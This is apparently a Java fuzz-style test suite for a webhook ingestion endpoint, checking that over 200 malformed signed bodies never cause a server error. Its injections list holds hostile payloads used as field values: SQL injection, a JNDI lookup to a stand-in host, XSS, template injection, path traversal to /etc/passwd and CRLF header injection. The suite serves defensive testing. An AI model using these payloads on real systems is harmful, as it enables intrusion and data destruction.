package io.sluice.webhook;

import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.UUID;
import java.util.stream.Stream;

import org.junit.jupiter.api.Named;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;

import io.quarkus.test.junit.QuarkusTest;
import io.restassured.response.Response;
import io.sluice.support.Db;
import io.sluice.support.Events;
import io.sluice.support.Signer;

/**
 * A generated corpus of malformed bodies, each posted with a valid signature: never a 5xx; an unreadable body is a
 * 400/413 problem and leaves nothing anywhere; a readable one is answered per event (202/422) or as a problem.
 */
@QuarkusTest
class MalformedBodiesTest {

    private static final ObjectMapper MAPPER = new ObjectMapper();
    private static final String JSON = "application/json";

    /** One corpus entry: what is sent, and whether the body is unreadable as a whole. */
    record Case(byte[] body, String contentType, boolean unreadable) {
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("corpus")
    void neverAServerErrorAndNothingStoredForUnreadableBodies(Case c) throws Exception {
        String webhookId = "msg_" + UUID.randomUUID();
        long ts = Instant.now().getEpochSecond();

        Response response = given()
                .header("webhook-id", webhookId)
                .header("webhook-timestamp", Long.toString(ts))
                .header("webhook-signature", Signer.signatureOfBytes(Signer.DEV_SECRET, webhookId, ts, c.body()))
                .contentType(c.contentType())
                .body(c.body())
                .when().post("/v1/webhooks/dev");

        int status = response.statusCode();
        assertThat(status).as(response.asString()).isLessThan(500);
        String contentType = response.contentType();
        if (status == 202 || status == 422) {
            assertThat(contentType).startsWith(JSON);
            JsonNode result = MAPPER.readTree(response.asByteArray());
            assertThat(result.has("accepted") && result.has("duplicates") && result.get("rejected").isArray())
                    .as(response.asString()).isTrue();
        } else {
            assertThat(contentType).startsWith("application/problem+json");
            JsonNode problem = MAPPER.readTree(response.asByteArray());
            assertThat(problem.get("status").asInt()).isEqualTo(status);
            assertThat(problem.get("type").asText()).startsWith("https://sluice.io/problems/");
            assertThat(problem.get("title").asText()).isNotBlank();
            assertThat(problem.get("detail").asText()).isNotBlank().doesNotContain("Exception").doesNotContain(
                    "io.sluice");
        }
        if (c.unreadable()) {
            assertThat(status).as(response.asString()).isIn(400, 413);
            assertThat(WebhookContractTest.storedFor(webhookId)).isZero();
        }
    }

    @Test
    void theCorpusIsLargeAndTheTablesSurviveIt() {
        assertThat(corpus().count()).isGreaterThanOrEqualTo(200);
        assertThat(Db.rows(
                "SELECT to_regclass('bronze.events')::text AS t, to_regclass('bronze.rejected_events')::text AS r")
                .get(0)).containsEntry("t", "bronze.events").containsEntry("r", "bronze.rejected_events");
    }

    static Stream<Arguments> corpus() {
        List<Arguments> cases = new ArrayList<>();
        truncations(cases);
        wrongTypes(cases);
        hugeNumbers(cases);
        deepNesting(cases);
        invalidUtf8(cases);
        oversize(cases);
        injections(cases);
        nulCharacters(cases);
        notEvents(cases);
        cloudEvents(cases);
        return cases.stream();
    }

    private static void truncations(List<Arguments> cases) {
        String purchase = Events.purchase("evt-trunc", "SKU-T", 2, "3.50");
        for (int end = 0; end < purchase.length() - 1; end += 6) {
            add(cases, "truncated purchase at " + end, purchase.substring(0, end), true);
        }
        String batch = "[" + Events.pageView("evt-t1") + "," + Events.pageView("evt-t2") + "]";
        for (int end = 1; end < batch.length() - 1; end += 17) {
            add(cases, "truncated batch at " + end, batch.substring(0, end), true);
        }
    }

    private static void wrongTypes(List<Arguments> cases) {
        String[] fields = {"event_id", "event_type", "occurred_at", "user_id", "anonymous_id", "session_id", "page",
                "product", "quantity", "order", "context", "properties", "schema_version"};
        JsonNodeFactory f = JsonNodeFactory.instance;
        for (String field : fields) {
            JsonNode[] values = {f.numberNode(123), f.numberNode(-1), f.numberNode(1.5), f.booleanNode(true),
                    f.nullNode(), f.arrayNode(), f.objectNode(), f.textNode(""), f.textNode("x-" + UUID.randomUUID())};
            for (JsonNode value : values) {
                ObjectNode event = cart();
                event.set(field, value);
                add(cases, field + " = " + value, event.toString(), false);
            }
        }
        String[][] nested = {{"product", "sku", "5"}, {"product", "price", "\"cheap\""}, {"product", "price", "-1"},
                {"product", "currency", "12"}, {"order", "items", "\"x\""}, {"order", "items", "[5]"},
                {"order", "items", "[{\"sku\":1,\"quantity\":\"2\",\"unit_price\":true}]"},
                {"order", "total", "\"1e999\""}, {"page", "url", "[]"}, {"context", "ip", "{}"}};
        for (String[] n : nested) {
            ObjectNode event = purchase();
            if (!event.has(n[0])) {
                event.set(n[0], f.objectNode());
            }
            ((ObjectNode) event.get(n[0])).set(n[1], parse(n[2]));
            add(cases, n[0] + "." + n[1] + " = " + n[2], event.toString(), false);
        }
    }

    private static void hugeNumbers(List<Arguments> cases) {
        String[] numbers = {"1e999999", "-1e999999", "1e-999999", "1e400", "9".repeat(999), "9".repeat(1001),
                "0." + "0".repeat(998) + "1", "1.7976931348623157E309", "123456789012345678901234567890",
                "-0", "4.9E-325", "1" + "0".repeat(200) + ".5"};
        for (String number : numbers) {
            String label = number.length() > 30 ? number.substring(0, 12) + "...(" + number.length() + ")" : number;
            boolean unreadable = false;
            add(cases, "quantity " + label, cart().toString().replace("\"quantity\":2", "\"quantity\":" + number),
                    unreadable);
            add(cases, "price " + label, cart().toString().replace("\"price\":9.99", "\"price\":" + number),
                    unreadable);
            add(cases, "properties.n " + label, cart().put("x", 0).toString().replace("\"x\":0",
                    "\"properties\":{\"n\":" + number + "}"), unreadable);
        }
        // an exponent beyond int: Jackson cannot read the number at all, so the body is unreadable (400, not a 500)
        for (String number : new String[]{"1e2147483648", "-1e-2147483649"}) {
            add(cases, "price " + number, cart().toString().replace("\"price\":9.99", "\"price\":" + number), true);
            add(cases, "second element's price " + number, "[" + cart() + "," + cart().toString()
                    .replace("\"price\":9.99", "\"price\":" + number) + "]", true);
        }
    }

    private static void deepNesting(List<Arguments> cases) {
        for (int depth : new int[]{33, 40, 64, 1000, 100_000}) {
            add(cases, "arrays nested " + depth, "{\"event_id\":\"evt-deep\",\"properties\":{\"a\":" + "[".repeat(depth)
                    + "]".repeat(depth) + "}}", true);
            add(cases, "objects nested " + depth, "{\"event_id\":\"evt-deep\",\"properties\":"
                    + "{\"a\":".repeat(depth) + "1" + "}".repeat(depth) + "}", true);
            add(cases, "top-level arrays nested " + depth, "[".repeat(depth) + "]".repeat(depth), true);
        }
    }

    private static void invalidUtf8(List<Arguments> cases) {
        int[][] sequences = {{0xC3, 0x28}, {0xA0, 0xA1}, {0xE2, 0x28, 0xA1}, {0xE2, 0x82, 0x28}, {0xF0, 0x28, 0x8C,
                0xBC}, {0xF0, 0x90, 0x28, 0xBC}, {0xFF}, {0xFE}, {0xC0, 0xAF}, {0xE0, 0x80, 0xAF}, {0xED, 0xA0, 0x80},
                {0xF4, 0x90, 0x80, 0x80}, {0xF8, 0x88, 0x80, 0x80, 0x80}, {0xC2}, {0x80}};
        for (int[] sequence : sequences) {
            byte[] bad = new byte[sequence.length];
            for (int i = 0; i < sequence.length; i++) {
                bad[i] = (byte) sequence[i];
            }
            String hex = java.util.HexFormat.ofDelimiter(" ").formatHex(bad);
            add(cases, "invalid UTF-8 in a value: " + hex, concat(("{\"event_id\":\"evt-utf8\",\"title\":\"Ho")
                    .getBytes(StandardCharsets.UTF_8), bad, "\"}".getBytes(StandardCharsets.UTF_8)), JSON, true);
            add(cases, "invalid UTF-8 in a key: " + hex, concat("{\"".getBytes(StandardCharsets.UTF_8), bad,
                    "\":1}".getBytes(StandardCharsets.UTF_8)), JSON, true);
        }
    }

    private static void oversize(List<Arguments> cases) {
        add(cases, "one event over 64 KiB", Events.pageView("evt-big").replace("Home", "x".repeat(70_000)), true);
        add(cases, "body over 5 MiB", "[" + "{\"pad\":\"" + "y".repeat(5_300_000) + "\"}]", true);
        add(cases, "1001 events", "[" + "{},".repeat(1000) + "{}]", true);
        add(cases, "a 4 MiB string in a batch of 1", "[{\"event_id\":\"evt-4m\",\"s\":\"" + "z".repeat(4_000_000)
                + "\"}]", false);
    }

    private static void injections(List<Arguments> cases) {
        String[] attacks = {"'; DROP TABLE bronze.events; --", "\" OR 1=1 --", "$1::text", "evt-1'); DELETE FROM x;",
                "${jndi:ldap://evil.example/a}", "{{7*7}}", "<script>alert(1)</script>", "../../../../etc/passwd",
                "%00", "\u202Eevil", "😀🚀", "\\u0000", "null", "a".repeat(10_000), "\r\nSet-Cookie: x=1"};
        for (String attack : attacks) {
            String label = attack.length() > 40 ? "a x " + attack.length() : attack;
            ObjectNode asId = pageView();
            asId.put("event_id", attack);
            add(cases, "injection as event_id: " + label, asId.toString(), false);
            ObjectNode asUser = pageView();
            asUser.put("user_id", attack).put("event_id", Events.freshId());
            add(cases, "injection as user_id: " + label, asUser.toString(), false);
            ObjectNode asKey = pageView();
            asKey.put("event_id", Events.freshId()).putObject("properties").put(attack, attack);
            add(cases, "injection as a key: " + label, asKey.toString(), false);
        }
    }

    private static void nulCharacters(List<Arguments> cases) {
        add(cases, "NUL escape in event_id", pageView().put("event_id", "evt-\u0000").toString(), false);
        add(cases, "NUL escape in user_id", pageView().put("user_id", "u\u0000").toString(), false);
        add(cases, "NUL escape in a key", pageView().put("k\u0000", 1).toString(), false);
        add(cases, "NUL escape deep", "{\"properties\":{\"a\":[{\"b\":\"\\u0000\"}]}}", false);
        add(cases, "NUL escapes in a batch", "[" + pageView().put("event_id", Events.freshId()) + ","
                + pageView().put("title", "\u0000") + "]", false);
        add(cases, "lone surrogate escape", "{\"event_id\":\"evt-s\",\"t\":\"\\ud800\"}", false);
        add(cases, "raw NUL byte in a string", "{\"event_id\":\"evt-\u0000\"}", true);
        add(cases, "raw NUL byte between tokens", "{\"event_id\":\u0000\"evt-1\"}", true);
        add(cases, "raw NUL byte after the body", pageView() + "\u0000", true);
        add(cases, "raw control characters", "{\"event_id\":\"evt\u0001\u001F\"}", true);
    }

    private static void notEvents(List<Arguments> cases) {
        for (String body : List.of("", " ", "\n\t", "42", "\"event\"", "true", "null", "[]", "{} {}", "{}x",
                "{'event_id':'x'}", "{event_id:\"x\"}", "{\"a\":1,}", "[1,]", "{\"n\":NaN}", "{\"n\":Infinity}",
                "{\"n\":01}", "{\"n\":.5}", "{\"a\":1 /* c */}", "{\"a\":\"x\",\"a\":\"y\"}", "<event/>",
                "event_id=x&event_type=y", "\uFEFF")) {
            add(cases, "not JSON: " + body.replace("\n", "\\n"), body, true);
        }
        for (String body : List.of("{}", "[{}]", "[1]", "[[]]", "[null]", "[\"x\",{}]", "[true,false]")) {
            add(cases, "JSON but no event: " + body, body, false);
        }
    }

    private static void cloudEvents(List<Arguments> cases) {
        String ce = "{\"specversion\":\"1.0\",\"id\":\"ce-x\",\"type\":\"page_view\",\"source\":\"/s\","
                + "\"time\":\"2026-11-20T10:00:00Z\"";
        String[] structured = {ce + "}", ce + ",\"data\":\"text\"}", ce + ",\"data_base64\":\"e30=\"}",
                ce + ",\"data\":[1]}", ce.replace("\"1.0\"", "\"2.0\"") + ",\"data\":{}}",
                ce.replace("\"1.0\"", "1.0") + ",\"data\":{}}", "{\"id\":\"x\",\"data\":{}}", "[" + ce + "}]",
                ce + ",\"data\":null}"};
        for (String body : structured) {
            cases.add(Arguments.of(Named.of("cloudevent: " + body.substring(Math.max(0, body.length() - 30)),
                    new Case(body.getBytes(StandardCharsets.UTF_8), "application/cloudevents+json",
                            !body.startsWith("{")))));
        }
        for (String body : List.of(ce + ",\"data\":{}}", "[]", "[1,2]", "[" + ce + "}," + "{}]", "{\"a\":[")) {
            cases.add(Arguments.of(Named.of("cloudevent batch: " + body.substring(0, Math.min(30, body.length())),
                    new Case(body.getBytes(StandardCharsets.UTF_8), "application/cloudevents-batch+json",
                            !body.startsWith("[") || body.equals("[]") || body.startsWith("{\"a\"")))));
        }
    }

    private static void add(List<Arguments> cases, String name, String body, boolean unreadable) {
        add(cases, name, body.getBytes(StandardCharsets.UTF_8), JSON, unreadable);
    }

    private static void add(List<Arguments> cases, String name, byte[] body, String contentType,
            boolean unreadable) {
        String label = name.length() > 90 ? name.substring(0, 90) + "..." : name;
        cases.add(Arguments.of(Named.of(label, new Case(body, contentType, unreadable))));
    }

    private static ObjectNode cart() {
        return (ObjectNode) parse("""
                {"event_id":"%s","event_type":"add_to_cart","occurred_at":"2026-11-20T10:00:00Z","user_id":"u-1",
                 "product":{"sku":"SKU-1","price":9.99,"currency":"EUR"},"quantity":2}""".formatted(Events.freshId()));
    }

    private static ObjectNode pageView() {
        return (ObjectNode) parse(Events.pageView(Events.freshId()));
    }

    private static ObjectNode purchase() {
        return (ObjectNode) parse(Events.purchase(Events.freshId(), "SKU-P", 1, "2.00"));
    }

    private static JsonNode parse(String json) {
        try {
            return MAPPER.readTree(json);
        } catch (java.io.IOException e) {
            throw new IllegalStateException(e);
        }
    }

    private static byte[] concat(byte[]... parts) {
        int length = 0;
        for (byte[] part : parts) {
            length += part.length;
        }
        byte[] out = new byte[length];
        int at = 0;
        for (byte[] part : parts) {
            System.arraycopy(part, 0, out, at, part.length);
            at += part.length;
        }
        return out;
    }
}
